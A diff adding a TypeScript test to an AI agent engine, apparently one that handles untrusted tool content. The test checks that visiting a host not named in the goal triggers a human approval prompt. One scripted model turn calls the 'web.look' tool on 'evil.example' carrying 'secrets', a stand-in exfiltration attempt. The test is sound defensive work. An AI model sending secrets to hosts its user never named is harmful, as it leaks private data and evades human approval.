@@ -402,6 +402,25 @@ describe('the words of strangers', () => {
     expect((await engine.resume(run.id)).output).toBe('Sent.');
   });
 
+  it('make looking at a new place ask, unless the goal or a rule of the person names it', async () => {
+    const look = readTool('web.look', ({ host }: { host: string }) => `seen ${host}`, {
+      untrusted: true,
+      reaches: (input) => (input as { host: string }).host,
+    });
+    const turns = () =>
+      new ListedModel(
+        calls(['web.look', { host: 'a.example' }]),
+        calls(['web.look', { host: 'a.example', again: true }]),
+        calls(['web.look', { host: 'named.example' }]),
+        calls(['web.look', { host: 'evil.example', carrying: 'secrets' }]),
+        { text: 'Seen.' },
+      );
+    const goal = { ...GOAL, goal: 'read a.example and named.example' };
+    const run = await agentEngine(turns(), [look]).run(goal);
+    expect(run.waiting).toMatchObject({ for: 'approval', call: { input: { host: 'evil.example' } } });
+    expect((await agentEngine(turns(), [look], { policy: ALLOW }).run(goal)).output).toBe('Seen.');
+  });
+
   it('are not covered by a grant for the whole tool, only by one for these arguments', async () => {
     const granted = (argumentsHash?: string) => ({
       find: () => ({ tool: 'web.send', by: 'ann', at: 0, ...(argumentsHash ? { argumentsHash } : {}) }),
